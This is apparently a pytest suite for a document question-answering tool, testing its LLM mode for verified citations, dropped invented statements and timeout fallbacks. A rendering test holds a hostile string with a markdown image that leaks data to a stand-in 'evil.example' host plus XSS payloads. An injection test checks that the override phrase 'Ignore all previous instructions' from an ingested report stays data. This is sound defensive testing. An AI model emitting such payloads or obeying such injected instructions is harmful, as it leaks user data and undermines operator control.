"""LLM mode through real HTTP: verified citations, invented statements left out, fallbacks in time, injection kept as data."""

from __future__ import annotations

import json
import re
import shutil
import time

import pytest
from click.testing import CliRunner
from conftest import needs_shared, shared
from scripted_llm import INVENTED, ScriptedLLM

from cabinet.cli import main
from cabinet.errors import ConfigError
from eval.run import PageTexts
from index.answer import escape
from index.models import Answer, Timings, Turn
from index.render import render_answer, safe_markdown
from index.writer import LLMAnswerer, endpoint_kind, load_prompts

QUESTION = "When is the final Strategic Plan going to the County Council?"
TIMEOUT = 2.0


@pytest.fixture(scope="module")
def endpoint():
    """One scripted endpoint for the module; each test sets its mode."""
    with ScriptedLLM() as server:
        yield server


def _llm_settings(settings, endpoint, kind: str = "openai", **extra):
    url = endpoint.openai_url if kind == "openai" else endpoint.base
    return settings.model_copy(update={"llm_url": url, "llm_model": "scripted", "llm_kind": kind, "llm_timeout": TIMEOUT, **extra})


@pytest.fixture(params=["openai", "ollama"])
def llm_cabinet(request, cabinet, settings, endpoint, monkeypatch):
    """The session Cabinet with an LLM answerer on the scripted endpoint, over each API."""
    endpoint.mode = "normal"
    endpoint.requests.clear()
    llm_settings = _llm_settings(settings, endpoint, request.param)
    monkeypatch.setattr(cabinet, "settings", llm_settings)
    monkeypatch.setattr(cabinet, "llm", LLMAnswerer.from_settings(llm_settings))
    return cabinet


def _assert_verified(answer: Answer, corpus) -> None:
    """Every marker names a citation, every citation is used, and every quote stands on its page."""
    assert answer.citations, answer
    markers = {int(n) for n in re.findall(r"\[(\d+)\]", answer.answer)}
    assert markers == {c.n for c in answer.citations}, answer.answer
    pages = PageTexts(corpus)
    for citation in answer.citations:
        assert pages.quote_valid(citation.source, citation.page, citation.quote), citation


def test_model_answer_cites_sentences_verbatim(llm_cabinet, endpoint, corpus):
    answer = llm_cabinet.ask(QUESTION, mode="llm")
    assert answer.mode == "llm" and answer.note is None
    _assert_verified(answer, corpus)
    path = endpoint.requests[-1]["path"]
    assert path.endswith("/api/chat") if llm_cabinet.llm.llm.class_name() == "Ollama_llm" else path.endswith("/chat/completions")


def test_stream_yields_growing_verified_text_then_the_answer(llm_cabinet, endpoint, corpus):
    items = list(llm_cabinet.ask_stream(QUESTION, mode="llm"))
    partial, final = items[:-1], items[-1]
    assert isinstance(final, Answer) and final.mode == "llm"
    assert partial and all(isinstance(text, str) for text in partial)
    assert all(later.startswith(earlier) for earlier, later in zip(partial, partial[1:]))
    assert partial[-1] == final.answer
    assert endpoint.requests[-1]["stream"] is True
    _assert_verified(final, corpus)


def test_invented_statement_never_reaches_the_reader(llm_cabinet, endpoint, corpus):
    endpoint.mode = "invent"
    items = list(llm_cabinet.ask_stream(QUESTION, mode="llm"))
    final = items[-1]
    assert INVENTED in _reply_sent(endpoint)
    assert not any("spaceport" in (item if isinstance(item, str) else item.answer) for item in items)
    assert final.mode == "llm" and "1 statement of the model's answer was left out" in final.note
    _assert_verified(final, corpus)


def _reply_sent(endpoint) -> str:
    """What the scripted model said to the last request (it is deterministic, so ask it again)."""
    from scripted_llm import reply

    return reply(endpoint.requests[-1]["messages"], endpoint.mode)


def test_wrong_and_out_of_range_markers_are_corrected(llm_cabinet, endpoint, corpus):
    endpoint.mode = "wrong"
    answer = llm_cabinet.ask(QUESTION, mode="llm")
    assert "[99]" in _reply_sent(endpoint)
    assert "[99]" not in answer.answer and "corrected" in answer.note
    _assert_verified(answer, corpus)


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("mode", ["stall", "trickle"])
def test_slow_endpoint_falls_back_within_the_timeout(llm_cabinet, endpoint, corpus, mode, stream):
    endpoint.mode = mode
    expected = llm_cabinet.ask(QUESTION, mode="extractive")
    started = time.monotonic()
    answer = list(llm_cabinet.ask_stream(QUESTION, mode="llm"))[-1] if stream else llm_cabinet.ask(QUESTION, mode="llm")
    elapsed = time.monotonic() - started
    if mode == "trickle" and not stream:
        assert answer.mode == "llm"  # a whole reply at once is not slow; only the streamed one trickles
        return
    assert elapsed < TIMEOUT + 1, elapsed
    assert answer.mode == "extractive" and answer.answer == expected.answer
    assert answer.note == f"The model endpoint did not answer within {TIMEOUT:g} s; this is the extractive answer."


@pytest.mark.parametrize("mode", ["error", "garbage", "uncited"])
def test_failing_endpoint_gives_the_extractive_answer_with_a_note(llm_cabinet, endpoint, corpus, mode):
    endpoint.mode = mode
    for answer in (llm_cabinet.ask(QUESTION, mode="llm"), list(llm_cabinet.ask_stream(QUESTION, mode="llm"))[-1]):
        assert answer.mode == "extractive" and "this is the extractive answer" in answer.note
        _assert_verified(answer, corpus)


def test_documents_reach_the_model_only_inside_the_passages_block(llm_cabinet, endpoint):
    llm_cabinet.ask(QUESTION, mode="llm")
    system, user = endpoint.requests[-1]["messages"]
    assert system["role"] == "system" and system["content"] == llm_cabinet.llm.prompts.system
    assert "Strategic Plan" not in system["content"]
    block = user["content"].split("<<<PASSAGES", 1)[1].split("PASSAGES>>>", 1)[0]
    assert re.search(r"^\[1\] ", block, re.MULTILINE) and "Strategic Plan" in block
    assert f"Question: {QUESTION}" in user["content"]


def test_follow_up_is_condensed_by_the_model_before_retrieval(llm_cabinet, endpoint, corpus):
    history = [Turn(role="user", content="What is the Leicestershire Strategic Plan?"), Turn(role="assistant", content="A plan.")]
    answer = llm_cabinet.ask("and when does it go to the County Council?", history, mode="llm")
    condense, written = endpoint.requests[-2:]
    assert "Standalone question:" in condense["messages"][-1]["content"]
    assert "Follow-up: and when does it go to the County Council?" in condense["messages"][-1]["content"]
    assert "Question: and when does it go to the County Council?" in written["messages"][-1]["content"]
    assert answer.mode == "llm"
    _assert_verified(answer, corpus)


def test_catalogue_answers_stay_extractive_and_say_so(llm_cabinet, endpoint):
    answer = llm_cabinet.ask("Who is the lead officer for the New Vision for Somerset?", mode="llm")
    assert answer.mode == "extractive" and "catalogue" in answer.note
    assert "Simon Clifford" in answer.answer and endpoint.requests == []


def test_extractive_mode_never_calls_the_model(llm_cabinet, endpoint):
    items = list(llm_cabinet.ask_stream(QUESTION, mode="extractive"))
    assert len(items) == 1 and items[0].mode == "extractive" and items[0].note is None
    assert endpoint.requests == []


@pytest.mark.parametrize(
    "url, kind, expected",
    [("http://gpu:8000/v1", "auto", "openai"), ("http://localhost:11434", "auto", "ollama"), ("https://models.example/api", "auto", "ollama"),
     ("http://localhost:11434/v1", "openai", "openai")],
)
def test_endpoint_kind_is_the_setting_or_detected_from_the_url(settings, url, kind, expected):
    assert endpoint_kind(settings.model_copy(update={"llm_url": url, "llm_kind": kind})) == expected


def test_unknown_mode_and_llm_mode_without_endpoint_are_errors(cabinet):
    with pytest.raises(ConfigError, match="unknown answer mode"):
        cabinet.ask(QUESTION, mode="poetry")
    with pytest.raises(ConfigError, match="CABINET_LLM_URL"):
        cabinet.ask(QUESTION, mode="llm")


def test_llm_mode_without_an_endpoint_is_a_clear_error(settings):
    result = CliRunner().invoke(main, ["eval", "--mode", "llm", "--store", str(settings.store_path)], env={"CABINET_LLM_URL": ""})
    assert result.exit_code == 2 and "CABINET_LLM_URL" in result.output
    result = CliRunner().invoke(main, ["ask", "--mode", "llm", "--store", str(settings.store_path), "Anything?"], env={"CABINET_LLM_URL": ""})
    assert result.exit_code == 2 and "CABINET_LLM_URL" in result.output


def test_cli_asks_in_llm_mode(settings, endpoint):
    endpoint.mode = "normal"
    env = {"CABINET_LLM_URL": endpoint.openai_url, "CABINET_LLM_MODEL": "scripted", "CABINET_LLM_TIMEOUT": "5"}
    result = CliRunner().invoke(main, ["ask", "--mode", "llm", "--json", "--store", str(settings.store_path), QUESTION], env=env)
    assert result.exit_code == 0, result.output
    row = json.loads(result.stdout.splitlines()[-1])
    assert row["mode"] == "llm" and row["citations"] and row["note"] is None


@pytest.mark.parametrize(
    "edit, message",
    [
        (lambda text: text.replace("$passages", ""), "missing $passages"),
        (lambda text: text + "\n$context", "unknown $context"),
        (lambda text: text + "\nCosts $ 5", "malformed"),
    ],
)
def test_prompt_templates_are_checked_at_start_up(tmp_path, settings, endpoint, edit, message):
    shutil.copytree(settings.prompts_dir, tmp_path / "prompts")
    answer = tmp_path / "prompts" / "answer.txt"
    answer.write_text(edit(answer.read_text()))
    with pytest.raises(ConfigError, match=re.escape(message)):
        load_prompts(tmp_path / "prompts")
    with pytest.raises(ConfigError, match="answer.txt"):
        from index.service import Cabinet

        Cabinet(_llm_settings(settings, endpoint, prompts_dir=tmp_path / "prompts"))


def test_missing_prompt_file_is_an_error(tmp_path, settings):
    shutil.copytree(settings.prompts_dir, tmp_path / "prompts")
    (tmp_path / "prompts" / "condense.txt").unlink()
    with pytest.raises(ConfigError, match="condense.txt is missing"):
        load_prompts(tmp_path / "prompts")


def test_rendering_leaves_no_live_html_links_or_images():
    hostile = "![x](http://evil.example/leak?d=secret) <img src=x onerror=alert(1)> [see](javascript:alert(1)) & <b>bold</b>"
    for text in (hostile, escape(hostile)):
        rendered = render_answer(Answer(question="q", answer=f"{text} [1]", abstained=False, citations=[], note=f"note {text}",
                                        timings_ms=Timings(retrieve=0, answer=0, total=0)))
        assert "<img" not in rendered and "<b>" not in rendered
        assert not re.search(r"(?<!\\)\[[^\]]*(?<!\\)\]\(", rendered), rendered  # no live [text](url) or ![x](url)
        assert "`http://evil.example/leak?d=secret`" in rendered or "`http://evil.example/leak?d=secret`" in rendered.replace("\\", "")
        assert "[1]" in rendered
    assert safe_markdown("Fenwick & Ashby: 5 < 6") == "Fenwick &amp; Ashby: 5 &lt; 6"


@pytest.fixture(scope="module")
def injected(tmp_path_factory, endpoint):
    """A Cabinet over a store holding the prompt-injection report, answering through the scripted endpoint."""
    from conftest import fresh_settings

    from index.build import ingest_paths
    from index.service import Cabinet

    folder = tmp_path_factory.mktemp("injection")
    settings = fresh_settings(folder)
    assert not ingest_paths([shared("bad", "prompt-injection.pdf")], settings).failed
    return Cabinet(_llm_settings(settings, endpoint)), folder


@needs_shared
@pytest.mark.parametrize("mode", ["obey", "exfil", "normal"])
def test_injected_instructions_stay_data(injected, endpoint, mode):
    cabinet, _ = injected
    endpoint.mode = mode
    endpoint.requests.clear()
    answer = list(cabinet.ask_stream("What are the annual running costs of the public toilets?", mode="llm"))[-1]
    system, user = endpoint.requests[-1]["messages"]
    assert "Ignore all previous instructions" not in system["content"]
    assert "Ignore all previous instructions" in user["content"].split("<<<PASSAGES", 1)[1].split("PASSAGES>>>", 1)[0]
    rendered = render_answer(answer)
    assert "abolished" not in answer.answer and system["content"].splitlines()[0] not in answer.answer
    assert "<img" not in rendered and not re.search(r"(?<!\\)\]\(", rendered)
    assert "186,000" in answer.answer
    pages = PageTexts(shared("bad"))
    assert all(pages.quote_valid(c.source, c.page, c.quote) for c in answer.citations) and answer.citations
